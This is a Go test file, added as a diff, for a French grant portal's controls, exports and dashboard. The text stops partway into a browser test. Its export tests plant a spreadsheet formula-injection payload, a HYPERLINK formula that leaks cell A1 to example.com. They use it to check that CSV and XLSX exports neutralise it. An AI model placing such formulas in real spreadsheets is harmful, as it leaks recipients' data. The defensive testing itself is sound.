@@ -1,0 +1,686 @@
+package web
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/xml"
+	"errors"
+	"fmt"
+	"image"
+	"image/png"
+	"io"
+	"log/slog"
+	"mime/multipart"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/chromedp"
+	"github.com/xuri/excelize/v2"
+
+	"github.com/segur-numerique/segur"
+	"github.com/segur-numerique/segur/internal/auth"
+	"github.com/segur-numerique/segur/internal/segurtest"
+	"github.com/segur-numerique/segur/internal/sqlstore"
+)
+
+// TestTemplatesControles executes the pages of the controls and the
+// dashboard with typed sample data.
+func TestTemplatesControles(t *testing.T) {
+	s := &Server{Log: slog.New(slog.NewTextHandler(io.Discard, nil))}
+	if err := s.parse(); err != nil {
+		t.Fatal(err)
+	}
+	agent := &segur.Utilisateur{Login: "marie@asp.fr", Nom: "Marie", Roles: []segur.Role{segur.RoleInstructeur}}
+	vendeur := &segur.Utilisateur{Login: "jean@x.fr", Nom: "Jean", Roles: []segur.Role{segur.RoleFournisseur}}
+	ctl := ControleVue{ID: 3, Reference: "CTL-0000003", NumeroASP: "ASP-2026-0000001", Fournisseur: "Le Beau Logiciel", Etat: "Non conforme",
+		EtatCode: "non_conforme", Origine: "tirage n° 1", TirageLien: "/agence/tirages/1", OuvertLe: "a", OuvertPar: "marie@asp.fr",
+		ConcluLe: "b", ConcluPar: "marie@asp.fr", Motif: "PV absent", MontantReverse: "4\u202f125,00 €", Ordre: "ASP-2026-0000001-ORV-1"}
+	page := PageControle{Base: Base{Titre: "Contrôle", Nav: "controles", Utilisateur: agent, Erreurs: []ErreurChamp{{"motif", "Motif obligatoire."}}},
+		Controle: ctl, Ouvert: true, Resultat: "non_conforme", Montant: "12",
+		Demande:  DemandeControle{NumeroASP: "ASP-2026-0000001", Lien: "/agence/demandes/ASP-2026-0000001", TotalVerse: "4\u202f125,00 €", OrdreLien: "/x"},
+		Messages: []MessageVue{{"a", "marie@asp.fr", "La facture"}},
+		Pieces:   []PieceControleVue{{Nom: "scan.png", Format: "PNG", Lien: "/agence/controles/3/pieces/1", Image: true}, {Nom: "f.pdf", Format: "PDF", Lien: "/p"}}}
+	vpage := page
+	vpage.Base = Base{Titre: "Contrôle", Nav: "controles", Utilisateur: vendeur, Erreurs: []ErreurChamp{{"fichier", "Format non reconnu."}}}
+	pages := map[string]struct {
+		data any
+		want []string
+	}{
+		"controles.html": {PageControles{Base: Base{Titre: "Contrôles", Nav: "controles", Utilisateur: agent, Erreurs: []ErreurChamp{{"graine", "Graine fausse."}}},
+			Onglets: []Onglet{{Libelle: "Tous", Lien: "/agence/controles", Nombre: 1, Courant: true}}, Lignes: []ControleVue{ctl}, Total: 1,
+			Tirages: []TirageVue{{ID: 1, Graine: "42", Taux: "5\u00a0%", Population: 20, Taille: 1}}, Taux: "5", Graine: "x"},
+			[]string{`id="graine-erreur"`, `value="x"`, `href="/agence/controles/3"`, `href="/agence/tirages/1"`, "<code>42</code>",
+				`href="/agence/exports/controles.xlsx"`, `aria-current="page">Contrôles</a>`}},
+		"controles-tirage.html": {PageTirage{Base: Base{Titre: "Tirage", Nav: "controles", Utilisateur: agent},
+			TirageVue: TirageVue{ID: 1, Graine: "42", Taux: "5\u00a0%", Empreinte: strings.Repeat("a", 64), Population: 20, Taille: 1, Echantillon: []ControleVue{ctl}},
+			Verifie:   true},
+			[]string{`<code id="graine-tirage">42</code>`, "Vérifié", "/agence/tirages/1/population", "CTL-0000003"}},
+		"controles-controle.html": {page,
+			[]string{`id="motif-erreur"`, `value="non_conforme" checked`, `action="/agence/controles/3/conclusion"`, `action="/agence/controles/3/messages"`,
+				`<img class="fr-responsive-img" src="/agence/controles/3/pieces/1" alt="Pièce scan.png">`, "ASP-2026-0000001-ORV-1", "La facture"}},
+		"controles-fournisseur.html": {PageControlesFournisseur{Base: Base{Titre: "Vos contrôles", Nav: "controles", Utilisateur: vendeur},
+			Lignes: []ControleVue{ctl}, Total: 1},
+			[]string{`href="/controles/3"`, `aria-current="page">Vos contrôles</a>`}},
+		"controles-fournisseur-controle.html": {vpage,
+			[]string{`action="/controles/3/pieces"`, `enctype="multipart/form-data"`, `id="fichier-erreur"`, "La facture"}},
+		"pilotage.html": {PagePilotage{Base: Base{Titre: "Pilotage", Nav: "pilotage", Utilisateur: agent}, Engage: "1 €", Paye: "2 €", Reste: "3 €",
+			Statuts: []LignePilotage{{Libelle: "Déposée", Nombre: 2}}, Codes: []CodeVue{{"2034", "montant", 2, 3}},
+			GrStatuts: graphique("gr-statuts", "Demandes « par » statut & <test>", "d", []string{"Déposée", "A & B"}, []int64{2, 0}, []string{"2", "0"})},
+			[]string{`data-montant="engage">1 €`, `<rect x="230"`, `aria-labelledby="gr-statuts-titre gr-statuts-desc"`}},
+	}
+	for _, f := range morePages {
+		if !strings.HasPrefix(f, "controles") && f != "pilotage.html" {
+			continue
+		}
+		t.Run(f, func(t *testing.T) {
+			pg, ok := pages[f]
+			if !ok {
+				t.Fatalf("no sample data for %s", f)
+			}
+			var buf bytes.Buffer
+			if err := s.pages[f].ExecuteTemplate(&buf, "layout", pg.data); err != nil {
+				t.Fatal(err)
+			}
+			for _, want := range append(pg.want, `<html lang="fr"`) {
+				if !strings.Contains(buf.String(), want) {
+					t.Errorf("lacks %q", want)
+				}
+			}
+			svgBienFormes(t, buf.String())
+		})
+	}
+}
+
+var reSVG = regexp.MustCompile(`(?s)<svg .*?</svg>`)
+
+// svgBienFormes checks every SVG of page is well-formed XML, and returns
+// how many there are.
+func svgBienFormes(t *testing.T, page string) int {
+	t.Helper()
+	svgs := reSVG.FindAllString(page, -1)
+	for _, s := range svgs {
+		d := xml.NewDecoder(strings.NewReader(s))
+		d.Strict = true
+		for {
+			_, err := d.Token()
+			if errors.Is(err, io.EOF) {
+				break
+			}
+			if err != nil {
+				t.Errorf("SVG not well-formed: %v\n%s", err, s)
+				break
+			}
+		}
+	}
+	return len(svgs)
+}
+
+// payerAvance moves request asp, deposited, to avance_payee with an
+// amount financed of finance cents, as the instruction and the payments
+// would.
+func payerAvance(t *testing.T, p *portail, asp string, finance int64) {
+	t.Helper()
+	ctx := segur.WithActeur(context.Background(), segur.Acteur{Login: "test"})
+	inst := []segur.Role{segur.RoleInstructeur}
+	for _, m := range []segur.Demarche{
+		{Action: segur.ActionPrendre, Roles: inst, Login: "marie@asp.fr"},
+		{Action: segur.ActionValider, Roles: inst, Login: "marie@asp.fr", MontantFinance: finance},
+		{Action: segur.ActionPayerAvance, Roles: []segur.Role{segur.RolePayeur}, Login: "paul@asp.fr"},
+	} {
+		if _, err := p.db.AppliquerDemarche(ctx, asp, m, segur.ProgrammeParDefaut, segur.Suites{}); err != nil {
+			t.Fatalf("%s %s: %v", asp, m.Action, err)
+		}
+	}
+}
+
+// sansSuivre is a client that does not follow redirects.
+func sansSuivre(c *http.Client) *http.Client {
+	d := *c
+	d.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
+	return &d
+}
+
+// envoyerPiece posts a file for control id as the vendor's client c.
+func envoyerPieceControle(t *testing.T, p *portail, c *http.Client, id int64, nom string, contenu []byte) (int, string) {
+	t.Helper()
+	var buf bytes.Buffer
+	w := multipart.NewWriter(&buf)
+	fw, _ := w.CreateFormFile("fichier", nom)
+	fw.Write(contenu)
+	w.Close()
+	req, _ := http.NewRequest("POST", fmt.Sprintf("%s/controles/%d/pieces", p.srv.URL, id), &buf)
+	req.Header.Set("Content-Type", w.FormDataContentType())
+	return lecteur{t}.lire(c.Do(req))
+}
+
+func pngMinimal() []byte {
+	var b bytes.Buffer
+	png.Encode(&b, image.NewGray(image.Rect(0, 0, 4, 4)))
+	return b.Bytes()
+}
+
+// autreFournisseur enrols a second vendor with a user, logged in.
+func autreFournisseur(t *testing.T, p *portail) *http.Client {
+	t.Helper()
+	ctx := context.Background()
+	f := &segur.Fournisseur{SIRET: "35600000000048", Nom: "Autre", Email: "a@autre.example"}
+	if err := p.db.CreateFournisseur(ctx, f); err != nil {
+		t.Fatal(err)
+	}
+	h, _ := auth.HashPassword("mot de passe de test")
+	if err := p.db.CreateUtilisateur(ctx, &segur.Utilisateur{Login: "x@autre.example", Nom: "X", Roles: []segur.Role{segur.RoleFournisseur}, FournisseurID: f.ID, MotDePasse: h}); err != nil {
+		t.Fatal(err)
+	}
+	c := client(t)
+	lecteur{t}.lire(c.PostForm(p.srv.URL+"/connexion", url.Values{"login": {"x@autre.example"}, "motdepasse": {"mot de passe de test"}}))
+	return c
+}
+
+// TestControles goes through a draw, a control picked by hand, the
+// vendor's files, and both outcomes, over HTTP.
+func TestControles(t *testing.T) {
+	L := lecteur{t}
+	p := newPortail(t)
+	ctx := context.Background()
+	vendeur := client(t)
+	connecter(t, p, vendeur, "mot de passe de test")
+	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00", "23000.00", "10000.00")
+	for _, a := range asps[:3] {
+		payerAvance(t, p, a, 10_000_00)
+	}
+	inst := agentClient(t, p, "marie@asp.fr", segur.RoleInstructeur)
+	instR := sansSuivre(inst)
+
+	code, body := L.lire(inst.Get(p.srv.URL + "/agence/controles"))
+	if code != http.StatusOK || !strings.Contains(body, "Tirer un échantillon") || !strings.Contains(body, "Aucun contrôle") {
+		t.Fatalf("controls page: got %d", code)
+	}
+	// Invalid forms: 422, the message beside the field, nothing drawn.
+	code, body = L.lire(inst.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"200"}, "graine": {"-3"}}))
+	if code != http.StatusUnprocessableEntity || !strings.Contains(body, `id="taux-erreur"`) || !strings.Contains(body, `id="graine-erreur"`) {
+		t.Errorf("invalid draw: got %d", code)
+	}
+	code, body = L.lire(inst.PostForm(p.srv.URL+"/agence/controles", url.Values{"asp": {asps[3]}}))
+	if code != http.StatusUnprocessableEntity || !strings.Contains(body, "seules les demandes dont l'avance est payée") {
+		t.Errorf("a request not paid: got %d", code)
+	}
+
+	// A draw of 50 % with a seed: 2 of the 3 paid requests, as the domain draws.
+	resp, err := instR.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"50"}, "graine": {"123"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	lieu := resp.Header.Get("Location")
+	if resp.StatusCode != http.StatusSeeOther || !strings.HasPrefix(lieu, "/agence/tirages/1?") {
+		t.Fatalf("draw: got %d to %q", resp.StatusCode, lieu)
+	}
+	code, body = L.lire(inst.Get(p.srv.URL + lieu))
+	want, _ := segur.Tirer(asps[:3], 5000, 123)
+	if code != http.StatusOK || !strings.Contains(body, `<code id="graine-tirage">123</code>`) || !strings.Contains(body, "Vérifié") ||
+		!strings.Contains(body, "2 demandes tirées sur 3") || !strings.Contains(body, want.Empreinte) {
+		t.Errorf("draw page: got %d\n%s", code, body)
+	}
+	for _, a := range want.Echantillon {
+		if !strings.Contains(body, a) {
+			t.Errorf("draw page lacks %s, drawn", a)
+		}
+	}
+	code, body = L.lire(inst.Get(p.srv.URL + "/agence/tirages/1/population"))
+	if code != http.StatusOK || body != strings.Join(want.Candidats, "\n")+"\n" {
+		t.Errorf("population: got %d %q", code, body)
+	}
+	// Without a seed: one is drawn, recorded and shown.
+	resp, err = instR.PostForm(p.srv.URL+"/agence/tirages", url.Values{"taux": {"100"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	tir2, err := p.db.FindTirage(ctx, 2)
+	if err != nil || resp.StatusCode != http.StatusSeeOther || tir2.Population != 1 || !strings.Contains(resp.Header.Get("Location"), url.QueryEscape(fmt.Sprintf("graine %d", tir2.Graine))) {
+		t.Fatalf("draw without a seed: %d %q, %+v %v", resp.StatusCode, resp.Header.Get("Location"), tir2, err)
+	}
+
+	// Every paid request has a control now: the one of the second draw.
+	cs, _, _ := p.db.FindControles(ctx, segur.ControleFilter{TirageID: 2})
+	c := cs[0]
+	base := fmt.Sprintf("%s/agence/controles/%d", p.srv.URL, c.ID)
+	code, body = L.lire(inst.PostForm(base+"/messages", url.Values{"message": {"  "}}))
+	if code != http.StatusUnprocessableEntity || !strings.Contains(body, `id="message-erreur"`) {
+		t.Errorf("empty message: got %d", code)
+	}
+	code, body = L.lire(inst.PostForm(base+"/messages", url.Values{"message": {"Merci de déposer la facture et le PV de VSR."}}))
+	if code != http.StatusOK || !strings.Contains(body, "Message envoyé au fournisseur.") || !strings.Contains(body, "Merci de déposer la facture") {
+		t.Errorf("message: got %d", code)
+	}
+	mails, _, _ := p.db.FindCourriels(ctx, "", 10, 0)
+	if len(mails) != 1 || !strings.Contains(mails[0].Corps, fmt.Sprintf("https://portail.example/controles/%d", c.ID)) ||
+		mails[0].A[0] != "contact@lebeaulogiciel.fr" {
+		t.Errorf("mail: %+v", mails)
+	}
+
+	// The vendor sees the control, and sends files; the wrong ones are refused.
+	vbase := fmt.Sprintf("%s/controles/%d", p.srv.URL, c.ID)
+	code, body = L.lire(vendeur.Get(p.srv.URL + "/controles"))
+	if code != http.StatusOK || !strings.Contains(body, c.NumeroASP) {
+		t.Errorf("vendor's controls: got %d", code)
+	}
+	code, body = L.lire(vendeur.Get(vbase))
+	if code != http.StatusOK || !strings.Contains(body, "Merci de déposer la facture") || strings.Contains(body, "marie@asp.fr") || strings.Contains(body, "/agence/") {
+		t.Errorf("vendor's control: got %d (neither the agent's login nor a link to the agents' pages may show)", code)
+	}
+	pdf, _ := os.ReadFile("../../testdata/HOP-RI-Va1-BDC-00001.pdf")
+	if code, body := envoyerPieceControle(t, p, vendeur, int64(c.ID), "facture.pdf", []byte("ceci n'est pas un PDF")); code != http.StatusUnprocessableEntity ||
+		!strings.Contains(body, "Format non reconnu") {
+		t.Errorf("a text file: got %d", code)
+	}
+	if code, body := envoyerPieceControle(t, p, vendeur, int64(c.ID), `C:\docs\facture <1>.pdf`, pdf); code != http.StatusOK || !strings.Contains(body, "Pièce « facture <1>.pdf » envoyée") {
+		t.Errorf("a PDF: got %d", code)
+	}
+	if code, _ := envoyerPieceControle(t, p, vendeur, int64(c.ID), "scan.png", pngMinimal()); code != http.StatusOK {
+		t.Errorf("a PNG: got %d", code)
+	}
+	got, _ := p.db.FindControle(ctx, c.ID)
+	if len(got.Pieces) != 2 || got.Pieces[0].Nom != "facture <1>.pdf" || got.Pieces[1].Format != "PNG" {
+		t.Fatalf("files: %+v", got.Pieces)
+	}
+	// Another vendor finds nothing; an agent reaches no vendor's page.
+	autre := autreFournisseur(t, p)
+	for _, u := range []string{vbase, vbase + fmt.Sprintf("/pieces/%d", got.Pieces[0].ID)} {
+		if code, _ := L.lire(autre.Get(u)); code != http.StatusNotFound {
+			t.Errorf("another vendor GET %s: got %d, want 404", u, code)
+		}
+	}
+	if code, _ := envoyerPieceControle(t, p, autre, int64(c.ID), "x.pdf", pdf); code != http.StatusNotFound {
+		t.Errorf("another vendor's file: got %d, want 404", code)
+	}
+	if code, _ := L.lire(inst.Get(vbase)); code != http.StatusForbidden {
+		t.Errorf("agent on the vendor's page: got %d, want 403", code)
+	}
+	// The agent sees the files inline.
+	code, body = L.lire(inst.Get(base))
+	if code != http.StatusOK || !strings.Contains(body, "facture <1>.pdf") || !strings.Contains(body, `<img class="fr-responsive-img"`) {
+		t.Errorf("agent's control page: got %d", code)
+	}
+	resp, err = inst.Get(fmt.Sprintf("%s/pieces/%d", base, got.Pieces[0].ID))
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.Header.Get("Content-Type") != "application/pdf" || !bytes.Equal(b, pdf) || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "inline") ||
+		!strings.Contains(resp.Header.Get("Content-Security-Policy"), "default-src 'none'") {
+		t.Errorf("file inline: %v", resp.Header)
+	}
+
+	// Not compliant: reason required, amount bounded, then the order.
+	for _, tt := range []struct {
+		form url.Values
+		want string
+	}{
+		{url.Values{"resultat": {"non_conforme"}}, "Motif : il est obligatoire"},
+		{url.Values{"resultat": {"non_conforme"}, "motif": {"x"}, "montant": {"3000,01"}}, "Montant à reverser : au plus 3\u202f000,00 €"},
+		{url.Values{"resultat": {"non_conforme"}, "motif": {"x"}, "montant": {"douze"}}, "n'est pas un montant"},
+		{url.Values{"resultat": {"peut-être"}}, "choisissez « conforme » ou « non conforme »"},
+	} {
+		code, body := L.lire(inst.PostForm(base+"/conclusion", tt.form))
+		if code != http.StatusUnprocessableEntity || !strings.Contains(body, tt.want) {
+			t.Errorf("%v: got %d, want 422 with %q", tt.form, code, tt.want)
+		}
+	}
+	code, body = L.lire(inst.PostForm(base+"/conclusion", url.Values{"resultat": {"non_conforme"}, "motif": {"Le PV de VSR n'a pas été transmis."}, "montant": {"1 000,50"}}))
+	ordre := c.NumeroASP + "-ORV-1"
+	if code != http.StatusOK || !strings.Contains(body, "ordre de reversement "+ordre+" de 1\u202f000,50 €") {
+		t.Fatalf("order: got %d\n%s", code, body)
+	}
+	d, _ := p.db.FindDemandeByASP(ctx, c.NumeroASP)
+	docs, _ := p.db.FindDocuments(ctx, c.NumeroASP)
+	if d.Statut != segur.DemandeReversementOrdonne || len(docs) != 1 || docs[0].Reference != ordre || docs[0].Type != segur.DocumentReversement {
+		t.Errorf("after the order: %s, %+v", d.Statut, docs)
+	}
+	mails, _, _ = p.db.FindCourriels(ctx, "", 10, 0)
+	if len(mails) != 2 || mails[0].PieceSHA256 != docs[0].Fichier.SHA256 || !strings.Contains(mails[0].Corps, "1\u202f000,50 €") {
+		t.Errorf("order's mail: %+v", mails[0])
+	}
+	for _, u := range []struct {
+		c   *http.Client
+		url string
+	}{{inst, "/agence/demandes/" + c.NumeroASP + "/documents/" + ordre}, {vendeur, "/demandes/" + c.NumeroASP + "/documents/" + ordre}} {
+		resp, err := u.c.Get(p.srv.URL + u.url)
+		if err != nil {
+			t.Fatal(err)
+		}
+		b, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusOK || !bytes.HasPrefix(b, []byte("%PDF-")) {
+			t.Errorf("GET %s: got %d", u.url, resp.StatusCode)
+		}
+	}
+	if code, body := envoyerPieceControle(t, p, vendeur, int64(c.ID), "y.pdf", pdf); code != http.StatusUnprocessableEntity || !strings.Contains(body, "est clos") {
+		t.Errorf("a file after the outcome: got %d", code)
+	}
+	code, body = L.lire(inst.PostForm(base+"/conclusion", url.Values{"resultat": {"conforme"}}))
+	if code != http.StatusUnprocessableEntity || !strings.Contains(body, "déjà clos") {
+		t.Errorf("concluding twice: got %d", code)
+	}
+
+	// Compliant: a control of the first draw.
+	cs, _, _ = p.db.FindControles(ctx, segur.ControleFilter{TirageID: 1})
+	code, body = L.lire(inst.PostForm(fmt.Sprintf("%s/agence/controles/%d/conclusion", p.srv.URL, cs[0].ID), url.Values{"resultat": {"conforme"}}))
+	if code != http.StatusOK || !strings.Contains(body, "demande conforme") {
+		t.Errorf("compliant: got %d", code)
+	}
+	if d, _ := p.db.FindDemandeByASP(ctx, cs[0].NumeroASP); d.Statut != segur.DemandeAvancePayee {
+		t.Errorf("a compliant request moved to %s", d.Statut)
+	}
+	code, body = L.lire(inst.Get(p.srv.URL + "/agence/controles?etat=non_conforme"))
+	if code != http.StatusOK || !strings.Contains(body, "Non conforme (1)") || !strings.Contains(body, "Conforme (1)") || !strings.Contains(body, "<caption>1 contrôle</caption>") {
+		t.Errorf("list by state: got %d", code)
+	}
+}
+
+// TestAccesControles: the controls are the instructors'; the dashboard
+// and the exports every agent's; a vendor reaches none of them.
+func TestAccesControles(t *testing.T) {
+	L := lecteur{t}
+	p := newPortail(t)
+	vendeur := client(t)
+	connecter(t, p, vendeur, "mot de passe de test")
+	payeur := agentClient(t, p, "paul@asp.fr", segur.RolePayeur)
+	admin := agentClient(t, p, "admin@asp.fr", segur.RoleAdmin)
+	for _, u := range []string{"/agence/controles", "/agence/controles/1", "/agence/tirages/1"} {
+		for nom, c := range map[string]*http.Client{"vendor": vendeur, "payer": payeur, "admin": admin} {
+			if code, _ := L.lire(c.Get(p.srv.URL + u)); code != http.StatusForbidden {
+				t.Errorf("%s GET %s: got %d, want 403", nom, u, code)
+			}
+		}
+	}
+	for _, u := range []string{"/agence/pilotage", "/agence/exports/demandes.csv", "/agence/exports/controles.xlsx", "/agence/exports/paiements.csv", "/agence/exports/financements.xlsx"} {
+		if code, _ := L.lire(vendeur.Get(p.srv.URL + u)); code != http.StatusForbidden {
+			t.Errorf("vendor GET %s: got %d, want 403", u, code)
+		}
+		if code, _ := L.lire(payeur.Get(p.srv.URL + u)); code != http.StatusOK {
+			t.Errorf("payer GET %s: got %d, want 200", u, code)
+		}
+	}
+	if code, _ := L.lire(payeur.Get(p.srv.URL + "/agence/exports/autre.csv")); code != http.StatusNotFound {
+		t.Errorf("unknown export: got %d, want 404", code)
+	}
+	if code, _ := L.lire(payeur.Get(p.srv.URL + "/controles")); code != http.StatusForbidden {
+		t.Errorf("agent on the vendor's controls: got %d, want 403", code)
+	}
+	if code, body := L.lire(vendeur.Get(p.srv.URL + "/controles/1")); code != http.StatusNotFound || !strings.Contains(body, "Page introuvable") {
+		t.Errorf("vendor GET a control that does not exist: got %d", code)
+	}
+}
+
+// storePiege names every vendor with a formula.
+type storePiege struct{ *sqlstore.DB }
+
+const nomPiege = `=HYPERLINK("http://example.com/?x="&A1,"Cliquez")`
+
+func (s storePiege) FindFournisseurs(ctx context.Context) ([]segur.Fournisseur, error) {
+	fs, err := s.DB.FindFournisseurs(ctx)
+	for i := range fs {
+		fs[i].Nom = nomPiege
+	}
+	return fs, err
+}
+
+// TestExports reads the exports back: the queue's filters apply, amounts
+// are numbers, and a vendor named with a formula stays text in both formats.
+func TestExports(t *testing.T) {
+	L := lecteur{t}
+	p := newPortail(t)
+	vendeur := client(t)
+	connecter(t, p, vendeur, "mot de passe de test")
+	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00")
+	payerAvance(t, p, asps[0], 13_750_45)
+	inst := agentClient(t, p, "marie@asp.fr", segur.RoleInstructeur)
+
+	// The queue links its exports with its own filters.
+	_, body := L.lire(inst.Get(p.srv.URL + "/agence/demandes?statut=toutes&tri=-montant"))
+	// (lire unescapes the page: &amp; reads &.)
+	if !strings.Contains(body, `href="/agence/exports/demandes.csv?statut=toutes&tri=-montant"`) {
+		t.Errorf("queue: no export link with its filters")
+	}
+	code, body := L.lire(inst.Get(p.srv.URL + "/agence/exports/demandes.csv?statut=toutes&tri=-montant"))
+	if code != http.StatusOK || !strings.HasPrefix(body, "\uFEFF") {
+		t.Fatalf("CSV: got %d", code)
+	}
+	rows, err := lireCSV(body)
+	if err != nil || len(rows) != 3 || rows[0][0] != "numeroASP" || rows[1][0] != asps[1] || rows[1][10] != "48000,00" || rows[2][11] != "13750,45" ||
+		rows[2][12] != "4125,14" || rows[2][2] != "Le Beau Logiciel" || rows[1][6] != "Déposée" {
+		t.Errorf("CSV rows: %q, %v", rows, err)
+	}
+	// The queue's default tab: the deposited requests only.
+	_, body = L.lire(inst.Get(p.srv.URL + "/agence/exports/demandes.csv"))
+	if rows, _ := lireCSV(body); len(rows) != 2 || rows[1][0] != asps[1] {
+		t.Errorf("CSV of the default tab: %q", rows)
+	}
+	if code, body := L.lire(inst.Get(p.srv.URL + "/agence/exports/demandes.csv?du=hier")); code != http.StatusBadRequest || !strings.Contains(body, "n'est pas une date") {
+		t.Errorf("a bad filter: got %d", code)
+	}
+	_, body = L.lire(inst.Get(p.srv.URL + "/agence/exports/financements.csv"))
+	if rows, _ := lireCSV(body); len(rows) != 2 || rows[1][0] != asps[0] || rows[1][8] != "4125,14" || rows[1][11] != "4125,14" {
+		t.Errorf("financings CSV: %q", rows)
+	}
+	// No batch yet: the payments' export has its header only.
+	_, body = L.lire(inst.Get(p.srv.URL + "/agence/exports/paiements.csv"))
+	if rows, _ := lireCSV(body); len(rows) != 1 || rows[0][0] != "Lot" || rows[0][8] != "Montant (€)" {
+		t.Errorf("payments CSV: %q", rows)
+	}
+	resp, err := inst.Get(p.srv.URL + "/agence/exports/demandes.xlsx?statut=toutes")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.Header.Get("Content-Type") != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
+		t.Errorf("XLSX content type %q", resp.Header.Get("Content-Type"))
+	}
+	x, err := excelize.OpenReader(bytes.NewReader(b))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if v, _ := x.GetCellValue("Demandes", "A2"); v != asps[0] {
+		t.Errorf("XLSX A2: got %q, want %s", v, asps[0])
+	}
+	if v, _ := x.GetCellValue("Demandes", "L2", excelize.Options{RawCellValue: true}); v != "13750.45" {
+		t.Errorf("XLSX L2: got %q, want the number 13750.45", v)
+	}
+	if typ, _ := x.GetCellType("Demandes", "L2"); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
+		t.Errorf("XLSX L2: type %v, want a number", typ)
+	}
+	x.Close()
+
+	// A vendor whose name is a formula: inert in CSV and in XLSX.
+	s := &Server{Store: storePiege{p.db}, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Now: time.Now, Paris: time.UTC}
+	for _, format := range []string{"csv", "xlsx"} {
+		for _, nom := range []string{"demandes", "financements", "controles"} {
+			if nom == "controles" {
+				// One control, for a row to read.
+				if _, err := p.db.OuvrirControle(context.Background(), asps[0], "marie@asp.fr"); err != nil && format == "csv" {
+					t.Fatal(err)
+				}
+			}
+			r := httptest.NewRequest("GET", "/agence/exports/"+nom+"."+format+"?statut=toutes", nil)
+			r.SetPathValue("fichier", nom+"."+format)
+			w := httptest.NewRecorder()
+			if err := s.getExport(w, r); err != nil {
+				t.Fatalf("%s.%s: %v", nom, format, err)
+			}
+			col := 2
+			if format == "csv" {
+				rows, err := lireCSV(w.Body.String())
+				if err != nil || len(rows) < 2 || rows[1][col] != "'"+nomPiege {
+					t.Errorf("%s.csv: vendor %q, want it behind an apostrophe (%v)", nom, rows, err)
+				}
+				continue
+			}
+			x, err := excelize.OpenReader(w.Body)
+			if err != nil {
+				t.Fatal(err)
+			}
+			sheet := x.GetSheetName(0)
+			cell, _ := excelize.CoordinatesToCellName(col+1, 2)
+			v, _ := x.GetCellValue(sheet, cell)
+			f, _ := x.GetCellFormula(sheet, cell)
+			typ, _ := x.GetCellType(sheet, cell)
+			if v != nomPiege || f != "" || typ != excelize.CellTypeInlineString {
+				t.Errorf("%s.xlsx %s: value %q, formula %q, type %v; want the text, no formula, an inline string", nom, cell, v, f, typ)
+			}
+			x.Close()
+		}
+	}
+}
+
+func lireCSV(body string) ([][]string, error) {
+	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
+	r.Comma = ';'
+	return r.ReadAll()
+}
+
+func TestNeutraliser(t *testing.T) {
+	for in, want := range map[string]string{"=1+1": "'=1+1", "+33": "'+33", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
+		"": "", "Le Beau": "Le Beau", " =1": " =1"} {
+		if got := neutraliser(in); got != want {
+			t.Errorf("neutraliser(%q): got %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestPilotage reads the dashboard of a known fixture: its figures, its
+// charts well-formed.
+func TestPilotage(t *testing.T) {
+	L := lecteur{t}
+	p := newPortail(t)
+	vendeur := client(t)
+	connecter(t, p, vendeur, "mot de passe de test")
+	asps := demandesDeposees(t, p, vendeur, "13750.00", "48000.00", "23000.00")
+	deposerForm(t, vendeur, p, "T0009", "1000.00", 9, false) // no zip: rejected by control 1 (1040)
+	payerAvance(t, p, asps[0], 10_000_01)
+	payerAvance(t, p, asps[1], 20_000_00)
+	agent := agentClient(t, p, "admin@asp.fr", segur.RoleAdmin)
+	code, body := L.lire(agent.Get(p.srv.URL + "/agence/pilotage"))
+	if code != http.StatusOK {
+		t.Fatalf("dashboard: got %d", code)
+	}
+	paris, _ := time.LoadLocation("Europe/Paris")
+	annee, semaine := p.now.In(paris).ISOWeek()
+	for _, want := range []string{
+		`data-montant="engage">30` + "\u202f" + `000,01 €`, // 10 000,01 + 20 000,00
+		`data-montant="paye">9` + "\u202f" + `000,00 €`,    // 3 000,00 + 6 000,00
+		`data-montant="reste">21` + "\u202f" + `000,01 €`,
+		"<th scope=\"row\">Avance payée</th><td>2</td>", "<th scope=\"row\">Déposée</th><td>1</td>",
+		"<th scope=\"row\">RI</th><td>3</td>",
+		fmt.Sprintf("<th scope=\"row\">%04d-S%02d</th>", annee, semaine),
+		"<td>4</td><td>1</td><td>3</td>", // 4 deposits, 1 rejected, 3 requests
+		"<th scope=\"row\">1040</th><td>1</td><td>Fichier .zip des pièces absent</td><td>1</td>",
+		"1 dépôt rejeté au contrôle 1 sur 4",
+	} {
+		if !strings.Contains(body, want) {
+			t.Errorf("dashboard lacks %q", want)
+		}
+	}
+	if n := svgBienFormes(t, body); n != 5 {
+		t.Errorf("got %d charts, want 5", n)
+	}
+	if strings.Contains(body, "style=") {
+		t.Error("a style attribute: the policy forbids it")
+	}
+	if n := strings.Count(body, "<rect "); n != 3+len(segur.StatutsInstruction)+1+1+1 {
+		t.Errorf("got %d bars", n)
+	}
+	wantTable := slices.Contains([]bool{strings.Contains(body, `<caption>3 demandes par statut</caption>`)}, true)
+	if !wantTable {
+		t.Error("no caption of the statuses' table")
+	}
+}
+
+// TestParcoursControles goes through the controls and the dashboard in a
+// real Chromium, each page checked with axe-core.
+func TestParcoursControles(t *testing.T) {
+	p := newPortailDSFR(t, dsfrDir(t))
+	vendeur := client(t)
+	connecter(t, p, vendeur, "mot de passe de test")
